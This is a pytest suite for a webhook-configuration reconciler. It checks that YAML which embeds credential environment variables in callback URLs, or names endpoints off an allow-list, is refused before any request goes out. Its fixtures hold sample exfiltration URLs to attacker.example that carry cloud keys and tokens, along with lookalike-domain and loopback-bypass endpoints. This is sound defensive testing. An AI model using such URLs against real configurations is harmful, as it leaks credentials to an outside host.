"""The YAML is a pull request away from anyone: it may read only the environment variables, and send signed
requests only to the hosts, that the job's environment allows (``reconciler.core.boundaries``).

Each credential reference is refused by ``validate`` at its file:line:col, and ``apply`` of it writes nothing
(the emulator's audit log) and sends no secret anywhere. Each endpoint outside the allow-list is refused by
``validate`` and by ``plan`` before any request: the emulator, reached by a name that is not on the list
(``0.0.0.0`` connects to this machine but is not loopback by name), sees no request at all; allowed through
``CAMS_RECONCILER_ALLOWED_ENDPOINTS`` it sees the plan's reads, so the refusal is not a broken connection.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from reconciler.cli import main
from reconciler.core.boundaries import endpoint_problem, env_name_problem
from tests.helpers.reliability import AuditReader, emulator_state, number_entry

SPACE_ID = "293400000000901"
PHONE = "8613800002000"
KEY_SECRET = "demo-secret"
ENV_VALUES = {"ALIBABA_CLOUD_ACCESS_KEY_ID": "demo", "ALIBABA_CLOUD_ACCESS_KEY_SECRET": KEY_SECRET,
              "CAMS_RECONCILER_FINGERPRINT_KEY": "fp-key-0123", "CAMS_RECONCILER_PLAN_KEY": "plan-key-0123",
              "GITHUB_TOKEN": "ghs_runner_token", "CAMS_SECRET_RETAIL_KEY_SECRET": "retail-key-secret",
              "CAMS_SECRET_STATUS_TOKEN": "status-token-1", "ACME_STATUS_TOKEN": "acme-token-1"}


def _space(status_url: str, migration: str | None = None, accounts: str = "") -> str:
    migration_block = ("        migration:\n          verify_code_env: " + migration + "\n") if migration else ""
    phone = "8613800002001" if migration else PHONE
    return (f"version: 1\n{accounts}spaces:\n  - name: shop\n    cust_space_id: \"{SPACE_ID}\"\n"
            f"    numbers:\n      - phone_number: \"+{phone}\"\n        webhooks:\n"
            f"          status_callback_url: {status_url}\n{migration_block}")


RETAIL_ACCOUNT = ("accounts:\n  - name: default\n    access_key_id_env: ALIBABA_CLOUD_ACCESS_KEY_ID\n"
                  "    access_key_secret_env: CAMS_SECRET_RETAIL_KEY_SECRET\n")

#: (YAML, extra environment, the variable the refusal names). The value each would send is in the environment.
ENV_CASES: list[tuple[str, dict[str, str], str]] = [
    (_space("https://attacker.example/cb?t=${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}"), {},
     "ALIBABA_CLOUD_ACCESS_KEY_SECRET"),
    (_space("https://attacker.example/cb?t=${env:CAMS_RECONCILER_FINGERPRINT_KEY}"), {},
     "CAMS_RECONCILER_FINGERPRINT_KEY"),
    (_space("https://attacker.example/cb?t=${env:CAMS_RECONCILER_PLAN_KEY}"), {}, "CAMS_RECONCILER_PLAN_KEY"),
    (_space("https://attacker.example/cb?t=${env:GITHUB_TOKEN}"), {}, "GITHUB_TOKEN"),
    (_space("https://attacker.example/cb?t=${env:ACME_STATUS_TOKEN}"), {}, "ACME_STATUS_TOKEN"),
    (_space("https://attacker.example/cb?t=${env:CAMS_SECRET_RETAIL_KEY_SECRET}", accounts=RETAIL_ACCOUNT), {},
     "CAMS_SECRET_RETAIL_KEY_SECRET"),
    # whatever the prefix: widened to the credentials' own, they are still refused
    (_space("https://attacker.example/cb?t=${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}"),
     {"CAMS_RECONCILER_ENV_PREFIX": "ALIBABA_CLOUD_"}, "ALIBABA_CLOUD_ACCESS_KEY_SECRET"),
    (_space("https://hooks.example/s", migration="ALIBABA_CLOUD_ACCESS_KEY_SECRET"), {},
     "ALIBABA_CLOUD_ACCESS_KEY_SECRET"),
    (_space("https://hooks.example/s", migration="CAMS_RECONCILER_FINGERPRINT_KEY"), {},
     "CAMS_RECONCILER_FINGERPRINT_KEY"),
    (_space("https://hooks.example/s", migration="CAMS_SECRET_RETAIL_KEY_SECRET", accounts=RETAIL_ACCOUNT), {},
     "CAMS_SECRET_RETAIL_KEY_SECRET"),
]
ENV_IDS = ["key-secret", "fingerprint-key", "plan-key", "runner-token", "unprefixed", "account-variable",
           "prefix-widened-to-credentials", "verify-code-key-secret", "verify-code-fingerprint-key",
           "verify-code-account-variable"]

#: Endpoints a YAML may not name by default (the emulator's port is filled in).
ENDPOINT_CASES = ["http://0.0.0.0:{port}", "https://attacker.example", "https://aliyuncs.com.attacker.example",
                  "https://evil-aliyuncs.com", "http://[::ffff:127.0.0.1]:{port}"]


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("CAMS_RECONCILER_ENDPOINT", "CAMS_RECONCILER_ENV_PREFIX", "CAMS_RECONCILER_ALLOWED_ENDPOINTS",
                 "ALIBABA_CLOUD_ROLE_ARN"):
        monkeypatch.delenv(name, raising=False)
    for name, value in ENV_VALUES.items():
        monkeypatch.setenv(name, value)


def _state() -> dict[str, Any]:
    return emulator_state({SPACE_ID: {"phone_numbers": [number_entry(PHONE, "https://old.example/s", None)],
                                      "pending_migrations": {}}})


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out + err


@pytest.mark.parametrize("yaml, extra, name", ENV_CASES, ids=ENV_IDS)
def test_a_credential_reference_is_refused_and_sends_nothing(
        yaml: str, extra: dict[str, str], name: str, tmp_path: Path, emulator: Any,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    for key, value in extra.items():
        monkeypatch.setenv(key, value)
    spaces = tmp_path / "spaces"
    spaces.mkdir()
    (spaces / "shop.yaml").write_text(yaml, encoding="utf-8")
    code, shown = _run(capsys, "validate", str(spaces))
    assert code == 1 and re.search(rf"shop\.yaml:\d+:\d+: error: .*{name}", shown), shown
    audit = tmp_path / "audit.jsonl"
    emu = emulator(_state(), qps=0, audit_log=audit)
    code, shown = _run(capsys, "apply", str(spaces), "--auto-approve", "--endpoint", emu.url)
    assert code == 1 and name in shown, shown
    assert [e for e in AuditReader(audit).all() if e.is_write] == []
    logged = audit.read_text() if audit.exists() else ""
    for value in ENV_VALUES.values():
        assert value not in shown and value not in logged


def test_a_prefixed_reference_is_sent(tmp_path: Path, emulator: Any, capsys: pytest.CaptureFixture[str]) -> None:
    """The control: the same shape with an allowed name validates and is written."""
    spaces = tmp_path / "spaces"
    spaces.mkdir()
    (spaces / "shop.yaml").write_text(_space("https://hooks.example/s?t=${env:CAMS_SECRET_STATUS_TOKEN}"))
    assert _run(capsys, "validate", str(spaces))[0] == 0
    audit = tmp_path / "audit.jsonl"
    emu = emulator(_state(), qps=0, audit_log=audit)
    code, shown = _run(capsys, "apply", str(spaces), "--auto-approve", "--endpoint", emu.url)
    assert code == 0, shown
    assert [e.action for e in AuditReader(audit).all() if e.is_write] == ["UpdatePhoneWebhook"]
    assert emu.backend.snapshot()["spaces"][SPACE_ID]["phone_numbers"][0]["StatusCallbackUrl"] == \
        "https://hooks.example/s?t=status-token-1"


def _account_yaml(endpoint: str) -> str:
    return (f"version: 1\naccounts:\n  - name: default\n    access_key_id_env: ALIBABA_CLOUD_ACCESS_KEY_ID\n"
            f"    access_key_secret_env: ALIBABA_CLOUD_ACCESS_KEY_SECRET\n    endpoint: {endpoint}\n"
            f"spaces:\n  - name: shop\n    cust_space_id: \"{SPACE_ID}\"\n    numbers:\n"
            f"      - phone_number: \"+{PHONE}\"\n        webhooks:\n"
            "          status_callback_url: https://hooks.example/new\n")


@pytest.mark.parametrize("endpoint", ENDPOINT_CASES)
def test_an_endpoint_outside_the_allow_list_gets_no_request(
        endpoint: str, tmp_path: Path, emulator: Any, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    audit = tmp_path / "audit.jsonl"
    emu = emulator(_state(), qps=0, audit_log=audit)
    url = endpoint.format(port=emu.url.rsplit(":", 1)[1])
    spaces = tmp_path / "spaces"
    spaces.mkdir()
    (spaces / "shop.yaml").write_text(_account_yaml(url), encoding="utf-8")
    code, shown = _run(capsys, "validate", str(spaces))
    assert code == 1 and re.search(r"shop\.yaml:\d+:\d+: error: .*is not an allowed endpoint.*accounts\[0\]\.endpoint",
                                   shown), shown
    for command in (["plan"], ["apply", "--auto-approve"]):
        code, shown = _run(capsys, command[0], str(spaces), *command[1:])
        assert code == 1 and "is not an allowed endpoint" in shown, shown
    assert AuditReader(audit).all() == []  # not one request, read or write
    if endpoint.startswith("http://0.0.0.0"):  # the control: allowed from outside, the same YAML reads
        monkeypatch.setenv("CAMS_RECONCILER_ALLOWED_ENDPOINTS", "other.example, 0.0.0.0")
        code, shown = _run(capsys, "plan", str(spaces))
        assert code == 0, shown
        assert AuditReader(audit).all() != []


@pytest.mark.parametrize("host, env, allowed", [
    ("https://cams.ap-southeast-1.aliyuncs.com", {}, True),
    ("https://business.aliyuncs.com", {}, True),
    ("https://cams-vpc.cn-hangzhou.aliyuncs.com/", {}, True),
    ("http://127.0.0.1:8800", {}, True),
    ("http://[::1]:8800", {}, True),
    ("http://localhost:8800", {}, True),
    ("https://aliyuncs.com.evil.example", {}, False),
    ("https://evilaliyuncs.com", {}, False),
    ("https://proxy.corp.example", {"CAMS_RECONCILER_ALLOWED_ENDPOINTS": "*.corp.example"}, True),
    ("https://corp.example", {"CAMS_RECONCILER_ALLOWED_ENDPOINTS": "*.corp.example"}, False),
    ("https://proxy.corp.example:8443", {"CAMS_RECONCILER_ALLOWED_ENDPOINTS": "proxy.corp.example:443"}, False),
    ("https://proxy.corp.example:443", {"CAMS_RECONCILER_ALLOWED_ENDPOINTS": "proxy.corp.example:443"}, True),
])
def test_the_endpoint_allow_list(host: str, env: dict[str, str], allowed: bool) -> None:
    assert (endpoint_problem(host, env) is None) is allowed


@pytest.mark.parametrize("name, env, allowed", [
    ("CAMS_SECRET_TOKEN", {}, True),
    ("ACME_TOKEN", {}, False),
    ("ACME_TOKEN", {"CAMS_RECONCILER_ENV_PREFIX": "ACME_"}, True),
    ("CAMS_SECRET_TOKEN", {"CAMS_RECONCILER_ENV_PREFIX": "ACME_"}, False),
    ("CAMS_RECONCILER_PLAN_KEY", {"CAMS_RECONCILER_ENV_PREFIX": "CAMS_"}, False),
    ("alibaba_cloud_access_key_secret", {"CAMS_RECONCILER_ENV_PREFIX": "alibaba_"}, False),
])
def test_the_env_prefix(name: str, env: dict[str, str], allowed: bool) -> None:
    assert (env_name_problem(name, env) is None) is allowed


def test_a_state_store_endpoint_outside_the_allow_list_is_refused_offline_and_before_use(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A YAML ``state_store:`` decides where the tool sends its state and an object-storage signature: its
    S3 endpoint is held to the same allow-list, at its line by ``validate`` and before the store is opened."""
    from reconciler.state import StateError
    from reconciler.state.s3 import S3Store

    for name in ("CAMS_RECONCILER_ALLOWED_ENDPOINTS", "CAMS_RECONCILER_S3_ENDPOINT", "AWS_ENDPOINT_URL"):
        monkeypatch.delenv(name, raising=False)
    store = "s3://cams-state/acme?endpoint=https://collector.attacker.example"
    (tmp_path / "shop.yaml").write_text(f"state_store: \"{store}\"\n" + _space("https://hooks.example/s"))
    assert main(["validate", str(tmp_path)]) == 1
    err = capsys.readouterr()
    assert re.search(r"shop\.yaml:1:\d+: error: state_store: host collector\.attacker\.example is not an allowed",
                     err.out + err.err), err
    with pytest.raises(StateError, match="collector.attacker.example is not an allowed endpoint"):
        S3Store(store, env={}, client=object())  # refused before any client would be made
    # listed outside the repository, the same endpoint is accepted
    monkeypatch.setenv("CAMS_RECONCILER_ALLOWED_ENDPOINTS", "collector.attacker.example")
    assert main(["validate", str(tmp_path)]) == 0
    assert S3Store(store, env={"CAMS_RECONCILER_ALLOWED_ENDPOINTS": "collector.attacker.example"},
                   client=object()).endpoint == "https://collector.attacker.example"
